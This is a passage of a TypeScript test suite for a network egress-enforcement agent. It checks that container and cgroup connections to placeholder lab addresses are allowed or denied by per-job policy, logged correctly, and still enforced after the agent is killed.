      expect(end).toMatchObject({ complete: true, lost: 0 });
      const log = readLog(String(end?.log));
      expect(log.errors, `${log.path} breaks the contract`).toEqual([]);
      return log;
    };
    const logA = logOf("a");
    const logB = logOf("b");
    const cliOf = (log: typeof logA, sub: string) =>
      byKind
        .exec(log.events)
        .filter((e) => e.filename === DOCKER_CLI && e.argv.includes(sub))
        .map((e) => e.pid);
    const inCtA = byKind.connect(logA.events).filter((e) => ct(e) !== undefined);
    const to = (evs: ConnectEv[], addr: string, port: number) =>
      evs.find((e) => e.addr === addr && e.port === port);
    // job a's container: a's policy (allowed .10, not .20); the step and the CLI that asked
    expect(to(inCtA, ALLOWED, 80)).toMatchObject({
      verdict: "allow",
      rule: `allow-cidr ${ALLOWED}/32`,
    });
    expect(to(inCtA, BLOCKED, 80)).toMatchObject({ verdict: "deny", rule: "default-deny" });
    expect(to(inCtA, ALLOWED, 83)).toMatchObject({ verdict: "allow", step: `${STEP}-a` });
    // the embedded resolver's answer, learned for job a: the name's address connects
    expect(
      inCtA.find((e) => e.addr === BLOCKED && e.port === 80 && e.verdict === "allow"),
    ).toMatchObject({ rule: "allow-host named.test:80" });
    for (const [port, runtime, sub] of [
      [80, "docker", "run"],
      [81, "docker", "build"],
      [82, "buildkit", "build"],
    ] as const) {
      const e = to(inCtA, BLOCKED, port);
      expect(e, `job a's connect to ${BLOCKED}:${port}`).toBeDefined();
      expect(e?.verdict).toBe("deny");
      expect(e?.step).toBe(`${STEP}-a`);
      expect(ct(e as Ev)?.runtime).toBe(runtime);
      expect(cliOf(logA, sub)).toContain(ct(e as Ev)?.requested_by);
    }
    // each start of the restarted container, the ones without a client too, by a's policy
    const restartId = readFileSync(join(dir, "restart.cid"), "utf8").trim();
    const restarts = inCtA.filter((e) => ct(e)?.id === restartId && e.addr === ALLOWED);
    expect(restarts.length, JSON.stringify(restarts)).toBeGreaterThanOrEqual(2);
    for (const e of restarts) expect(e).toMatchObject({ verdict: "allow", port: 80 });
    expect(dm.bg.stderr()).not.toMatch(
      new RegExp(`container docker ${restartId.slice(0, 12)}: no client`),
    );
    // job b's container: b has no policy of its own, the default reaches nothing
    const inCtB = byKind.connect(logB.events).filter((e) => ct(e) !== undefined);
    expect(to(inCtB, ALLOWED, 80)).toMatchObject({
      verdict: "deny",
      rule: "default-deny",
      step: `${STEP}-b`,
    });
    // no job's container, the other job's containers and the orphan are in neither log
    for (const [log, other] of [
      [logA, `${STEP}-b`],
      [logB, `${STEP}-a`],
    ] as const) {
      expect(log.lines.some((l) => l.includes(other))).toBe(false);
      expect(byKind.connect(log.events).filter((e) => e.comm === "bash")).toEqual([]);
    }
    expect(inCtB.some((e) => e.addr === BLOCKED)).toBe(false);
  }, 180_000);

  it("podman (rootful, no daemon): its container inherits the step through podman -> conmon -> runtime, carries runtime podman and id, and a blocked connect gets EPERM", async () => {
    const dir = tempDir("ctpod");
    const out = join(dir, "out");
    const p = await setupPodman(d.lab);
    const conf = join(dir, "agent.conf");
    writeFileSync(
      conf,
      `container-cgroup ${p.containersCg}\ndns-resolver 192.0.2.53\nallow-cidr ${ALLOWED}/32:80\n`,
    );
    const podRun = [...p.cli, "run", ...p.runFlags, PODMAN_IMAGE].join(" ");
    const r = await agentRun({
      args: ["--mode", "enforce", "--config", conf],
      env: { ...process.env, DPNDNCY_STEP: STEP },
      cmd: [
        "/bin/sh",
        "-c",
        `exec > ${out} 2>&1; ${podRun} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED; echo x | nc -w2 ${ALLOWED} 80'`,
      ],
    });
    expectRunOk(r);
    const text = plainText(out);
    expect(text).toMatch(/Operation not permitted/);
    expect(text).toMatch(/^ok$/m);
    expect(text).not.toMatch(/^CONNECTED$/m);
    const inCt = r.log.events.filter((e) => ct(e)?.runtime === "podman");
    const sh = byKind.exec(inCt).find((e) => e.argv[0] === "sh");
    expect(sh, "exec of the container's sh").toBeDefined();
    expect(ct(sh as Ev)?.id).toMatch(/^[0-9a-f]{64}$/);
    expect(sh?.step).toBe(STEP);
    const deny = byKind.connect(inCt).find((e) => e.addr === BLOCKED && e.port === 80);
    expect(deny?.verdict).toBe("deny");
    expect(deny?.step).toBe(STEP);
    const allow = byKind.connect(inCt).find((e) => e.addr === ALLOWED && e.port === 80);
    expect(allow?.verdict).toBe("allow");
  }, 120_000);
  it("container-slice (systemd driver layout): docker-<id>.scope and libpod-<id>.scope cgroups in the slice are judged, made before or after the agent started; another service of the slice is not", async () => {
    // The systemd cgroup driver needs systemd, which this machine does not run: the slice and
    // its scopes are made by the test, as systemd would make them for dockerd and podman.
    const dir = tempDir("ctslice");
    const out = join(dir, "out");
    const slice = testCgroup("slice");
    const other = slice.child("other.service");
    const early = `libpod-${randomBytes(32).toString("hex")}.scope`;
    slice.child(early);
    const lateId = randomBytes(32).toString("hex");
    const late = join(slice.path, `docker-${lateId}.scope`);
    const conf = join(dir, "agent.conf");
    writeFileSync(conf, `container-slice ${slice.path}\ndns-resolver 192.0.2.53\n`);
    const nc = (cg: string, tag: string) =>
      `sh -c 'echo $$ > ${cg}/cgroup.procs && exec nsenter --net=/run/netns/${d.lab.name} sh -c "echo x | busybox nc -w2 ${BLOCKED} 80 && echo ${tag}-CONNECTED || echo ${tag}-BLOCKED"'`;
    const r = await agentRun({
      args: ["--mode", "enforce", "--config", conf],
      env: { ...process.env, DPNDNCY_STEP: STEP },
      cmd: [
        "/bin/sh",
        "-c",
        [
          `exec > ${out} 2>&1`,
          `mkdir ${late}`,
          nc(late, "late"),
          nc(join(slice.path, early), "early"),
          nc(other, "other"),
          `rmdir ${late}`,
        ].join("\n"),
      ],
    });
    expectRunOk(r);
    const text = plainText(out);
    expect(text).toMatch(/^late-BLOCKED$/m);
    expect(text).toMatch(/^early-BLOCKED$/m);
    expect(text).toMatch(/^other-CONNECTED$/m);
    const conns = byKind.connect(r.log.events).filter((e) => e.addr === BLOCKED && e.port === 80);
    const lateRec = conns.find((e) => ct(e)?.id === lateId);
    expect(lateRec?.verdict, JSON.stringify(conns)).toBe("deny");
    expect(lateRec?.rule).toBe("default-deny");
    expect(lateRec?.step).toBe(STEP);
    const otherRec = conns.find((e) => e.verdict === "allow");
    expect(otherRec?.rule).toBe("exempt-cgroup");
    expect(ct(otherRec as Ev)).toBeUndefined();
  }, 90_000);
  it("bad container directives are refused with FILE:LINE, and a container-cgroup that does not exist or is the cgroup v2 root stops enforce, leaving nothing attached", async () => {
    const dir = tempDir("ctbad");
    const cases: [string, RegExp][] = [
      ["container-cgroup /\n", /agent\.conf:1: container-cgroup: "\/" is not a cgroup path/],
      ["container-slice ../x\n", /agent\.conf:1: container-slice: "\.\.\/x" is not a cgroup path/],
      ["runtime-socket docker.sock\n", /agent\.conf:1: runtime-socket needs an absolute path/],
      ["container-cgroup a b\n", /agent\.conf:1: wrong number of arguments for 'container-cgroup'/],
      [
        `container-cgroup ${join(d.cgroup.path, "no-such")}\n`,
        /enforce: container-cgroup .*no-such: No such file or directory/,
      ],
      [`container-cgroup ${cgroup2Mount()}/.\n`, /refusing to judge the cgroup v2 root/],
    ];
    const before = await snapshot();
    for (const [text, want] of cases) {
      const conf = join(dir, "agent.conf");
      writeFileSync(conf, text);
      const res = await run(
        [
          AGENT,
          "run",
          "--mode",
          "enforce",
          "--config",
          conf,
          "--log",
          join(dir, "l.ndjson"),
          "--",
          "true",
        ],
        { timeoutMs: 30_000 },
      );
      expect(res.code, text).not.toBe(0);
      expect(res.stderr, text).toMatch(want);
    }
    expect(await leaksSettled(before), "left attached by a refused start").toEqual([]);
  }, 60_000);
  it("start --mode enforce with a container-cgroup: a container cgroup made after the agent's SIGKILL is still judged (pinned, fail closed); stop removes every pin", async () => {
    const dir = tempDir("ctpin");
    const parent = testCgroup("ctpin");
    const conf = join(dir, "agent.conf");
    writeFileSync(conf, `container-cgroup ${parent.path}\ndns-resolver 192.0.2.53\n`);
    const st = await agentStart(["--mode", "enforce", "--config", conf]);
    expect(st.res.code, st.res.stderr).toBe(0);
    expect(
      pins().some((p) => p.endsWith("/ct0_enf_connect4")),
      pins().join(" "),
    ).toBe(true);
    const inContainer = async (): Promise<string> => {
      const cg = parent.child(`c${randomBytes(4).toString("hex")}`);
      const r = await run(
        [
          "/bin/sh",
          "-c",
          `echo $$ > ${cg}/cgroup.procs && exec nsenter --net=/run/netns/${d.lab.name} sh -c "echo x | busybox nc -w2 ${BLOCKED} 80"`,
        ],
        { timeoutMs: 30_000 },
      );
      return r.stdout + r.stderr;
    };
    expect(await inContainer()).toMatch(/Operation not permitted/);
    process.kill(st.pid as number, "SIGKILL");
    for (let i = 0; i < 100 && alive(st.pid as number); i++) await sleep(50);
    expect(alive(st.pid as number)).toBe(false);
    // a new container cgroup below the parent inherits the pinned programs at mkdir
    expect(await inContainer()).toMatch(/Operation not permitted/);
    const stop = await agentCli(["stop", "--state-dir", st.stateDir]);
    expect(stop.code, stop.stderr).toBe(3); // recovered: the trace is incomplete
    expect(ourPins()).toEqual([]);
    expect(await inContainer()).toMatch(/^ok$/m);
  }, 90_000);
});
